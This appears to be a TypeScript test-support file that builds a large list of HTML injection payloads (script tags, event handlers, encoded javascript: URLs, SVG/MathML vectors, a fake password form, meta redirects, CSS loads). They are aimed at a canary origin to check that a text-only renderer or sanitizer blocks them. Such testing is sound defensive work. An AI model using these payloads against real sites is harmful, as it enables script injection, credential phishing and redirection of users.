/**
 * HTML that attacks a page whose content should be text only: it runs code, loads or sends data, leads to another site, or imitates a part of the
 * page. Each payload that runs calls `alert` or sends a request to the canary.
 */

import { broken, clobbering, mutations } from './html-mutations.ts';

/** @param canary an origin that gets no other requests, e.g. `https://canary.example` */
export function htmlPayloads(canary: string): readonly string[] {
  const act = `alert(1);new Image().src='${canary}/ran'`;
  const asked = (what: string) => `${canary}/${what}`;
  return [
    ...scripts(act, asked),
    ...handlers(act),
    ...addresses(act, canary),
    ...frames(act, asked),
    ...forms(act, asked),
    ...styles(asked),
    ...leading(asked),
    ...drawings(act, asked),
    ...mutations(act),
    ...broken(act),
    ...clobbering(),
  ];
}

type Asked = (what: string) => string;

function scripts(act: string, asked: Asked): readonly string[] {
  return [
    `<script>${act}</script>`,
    `<SCRIPT>${act}</SCRIPT>`,
    `<script src="${asked('s.js')}"></script>`,
    `<script/src=${asked('s2.js')}></script>`,
    `<script src=data:text/javascript,${encodeURIComponent(act)}></script>`,
    `<script type=module>${act}</script>`,
    `<script type=module>import '${asked('m.js')}'</script>`,
    `<script async defer\n>${act}</script\n>`,
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `<<script>${act};//<</script>`,
    `<script>${act}`,
    `<script ~~~>${act}</script ~~~>`,
    `<script\u0000>${act}</script>`,
    `<scr\u0000ipt>${act}</scr\u0000ipt>`,
    `<script\t${'x'.repeat(50)}>${act}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=&quot;${act}&quot;>"></noscript>`,
    `<script type=text/html>${act}</script><img src=x onerror="${act}">`,
    `<link rel=modulepreload href="${asked('preload.js')}">`,
    `<link rel=prefetch href="${asked('prefetch')}">`,
    `<link rel=dns-prefetch href="${asked('dns')}">`,
    `<script type=importmap>{"imports":{"react":"${asked('react.js')}"}}</script>`,
    `<script type=speculationrules>{"prefetch":[{"urls":["${asked('speculation')}"]}]}</script>`,
  ];
}

function handlers(act: string): readonly string[] {
  const own = [
    ['img src=x', 'onerror'],
    ['img/src=x', 'onerror'],
    ['image src=x', 'onerror'],
    ['audio src=x', 'onerror'],
    ['video src=x', 'onerror'],
    ['video><source src=x', 'onerror'],
    ['body', 'onload'],
    ['body', 'onpageshow'],
    ['body', 'onhashchange'],
    ['frameset', 'onload'],
    ['details open', 'ontoggle'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['keygen autofocus', 'onfocus'],
    ['a tabindex=1 autofocus', 'onfocus'],
    ['p contenteditable autofocus', 'onfocusin'],
    ['marquee', 'onstart'],
    ['marquee loop=1 width=0', 'onfinish'],
    ['p', 'onclick'],
    ['p', 'onmouseover'],
    ['p', 'onpointerenter'],
    ['p', 'onwheel'],
    ['p', 'oncopy'],
    ['p style="animation:x"', 'onanimationstart'],
    ['p style="transition:all 1s"', 'ontransitionend'],
    ['p', 'oncontentvisibilityautostatechange'],
    ['button popovertarget=x', 'onbeforetoggle'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onload'],
    ['iframe src=about:blank', 'onload'],
    ['style', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['isindex type=image src=1', 'onerror'],
    ['form', 'onsubmit'],
    ['dialog open', 'onclose'],
    ['xss', 'onbeforescriptexecute'],
    ['xss tabindex=1 autofocus', 'onfocus'],
  ];
  const written = own.map(([element, event]) => `<${element} ${event}="${act}">x`);
  const forms = [
    `<img src=x onerror=${act.replaceAll(' ', '/**/')}>`,
    `<img src=x onerror='${act.replaceAll("'", '&#39;')}'>`,
    `<img src=x\nonerror\n=\n"${act}">`,
    `<img src=x onerror\u0000="${act}">`,
    `<img src=x ONERROR="${act}">`,
    `<img src=x/onerror="${act}">`,
    `<img src='x'onerror="${act}">`,
    `<img """><img src=x onerror="${act}">">`,
    `<img src=x:x onerror\t="${act}">`,
    `<a title="x"onclick="${act}" onmouseover="${act}" href=#>x</a>`,
    `<p onclick=&#97;lert(1)>x</p>`,
  ];
  return [...written, ...forms];
}

/** URLs that run code, in every attribute that takes a URL. */
function addresses(act: string, canary: string): readonly string[] {
  const schemes = [
    `javascript:${act}`,
    `JaVaScRiPt:${act}`,
    `java\tscript:${act}`,
    `java\nscript:${act}`,
    `&#106;avascript:${act}`,
    `&#x6A;avascript:${act}`,
    `&#0000106avascript:${act}`,
    `javascript&colon;${act}`,
    `java&Tab;script:${act}`,
    ` &#14; javascript:${act}`,
    `\u0001javascript:${act}`,
    `data:text/html,<script>${act}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `vbscript:msgbox(1)`,
    `view-source:${canary}`,
    `blob:${canary}/x`,
    `//${canary.replace(/^https?:\/\//, '')}/x`,
    `\\\\${canary.replace(/^https?:\/\//, '')}\\x`,
    `filesystem:${canary}/x`,
  ];
  const places = [
    (address: string) => `<a href="${address}">x</a>`,
    (address: string) => `<iframe src="${address}"></iframe>`,
    (address: string) => `<form action="${address}"><input type=submit></form>`,
    (address: string) => `<object data="${address}"></object>`,
  ];
  return schemes.flatMap((address) => places.map((place) => place(address.replaceAll('"', '&quot;'))));
}

function frames(act: string, asked: Asked): readonly string[] {
  return [
    `<iframe src="${asked('frame')}"></iframe>`,
    `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=&quot;parent.alert(1)&quot;&gt;"></iframe>`,
    `<iframe src=x sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='${asked('top')}'</script>"></iframe>`,
    `<frameset><frame src="${asked('frameset')}"></frameset>`,
    `<embed src="${asked('embed')}">`,
    `<object data="${asked('object')}" type=text/html></object>`,
    `<applet code="${asked('applet')}"></applet>`,
    `<portal src="${asked('portal')}"></portal>`,
    `<fencedframe src="${asked('fenced')}"></fencedframe>`,
  ];
}

function forms(act: string, asked: Asked): readonly string[] {
  return [
    `<form action="${asked('form')}" method=post><input name=password type=password><button>Log in</button></form>`,
    `<form id=f action="${asked('form2')}"></form><button form=f>x</button>`,
    `<input type=image src="${asked('image')}">`,
    `<button formaction="javascript:${act}">x</button>`,
    `<isindex action="${asked('isindex')}">`,
    `<textarea form=f name=x></textarea>`,
    `<input type=hidden oncontentvisibilityautostatechange="${act}" style=content-visibility:auto>`,
    `<select><option>x</select>`,
    `<dialog open><form method=dialog><input></form></dialog>`,
    `<label for=root>x</label>`,
  ];
}

function styles(asked: Asked): readonly string[] {
  return [
    `<style>*{background:url(${asked('css')})}</style>`,
    `<style>@import '${asked('import.css')}';</style>`,
    `<link rel=stylesheet href="${asked('sheet.css')}">`,
    `<p style="background:url(${asked('inline')})">x</p>`,
    `<p style="position:fixed;inset:0;z-index:9999;background:red">x</p>`,
    `<p style="background-image:image-set('${asked('set')}' 1x)">x</p>`,
    `<table background="${asked('table')}"><tr><td background="${asked('cell')}">x</table>`,
    `<body background="${asked('body')}">x`,
    `<style><img src="</style><img src=${asked('hidden')}>">`,
    `<p class="page" hidden>x</p>`,
  ];
}

/** Markup that leads to another site or loads a resource. */
function leading(asked: Asked): readonly string[] {
  return [
    `<meta http-equiv=refresh content="0;url=${asked('meta')}">`,
    `<meta http-equiv="refresh" content="0;javascript:alert(1)">`,
    `<meta http-equiv=set-cookie content="x=y">`,
    `<meta http-equiv=content-security-policy content="default-src *">`,
    `<meta name=referrer content=unsafe-url>`,
    `<base href="${asked('')}">`,
    `<base target=_top>`,
    `<a href="https://bank.example" ping="${asked('ping')}" target=_blank>x</a>`,
    `<img src="${asked('img')}">`,
    `<img srcset="${asked('srcset')} 1x">`,
    `<picture><source srcset="${asked('picture')}"><img></picture>`,
    `<video poster="${asked('poster')}" src="${asked('video')}" autoplay></video>`,
    `<audio src="${asked('audio')}" autoplay></audio>`,
    `<track src="${asked('track')}">`,
    `<bgsound src="${asked('bgsound')}">`,
    `<html manifest="${asked('manifest')}">`,
    `<map name=m><area href="javascript:alert(1)"></map><img usemap=#m>`,
    `<blockquote cite="${asked('cite')}">x</blockquote>`,
  ];
}

function drawings(act: string, asked: Asked): readonly string[] {
  return [
    `<svg onload="${act}">`,
    `<svg/onload="${act}">`,
    `<svg><script>${act}</script></svg>`,
    `<svg><script href="${asked('svg.js')}"/></svg>`,
    `<svg><script xlink:href="data:,alert(1)"/></svg>`,
    `<svg><a xlink:href="javascript:${act}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${act}"></a></svg>`,
    `<svg><set attributeName=onmouseover to="${act}"></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>`,
    `<svg><use href="${asked('use.svg')}#x"></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"></svg>`,
    `<svg><image href="${asked('image.svg')}"></svg>`,
    `<svg><feImage href="${asked('feimage')}"></svg>`,
    `<svg><style>@import '${asked('svg.css')}'</style></svg>`,
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${act}</handler></svg>`,
    `<math href="javascript:${act}">x</math>`,
    `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${act}">x</maction></math>`,
  ];
}
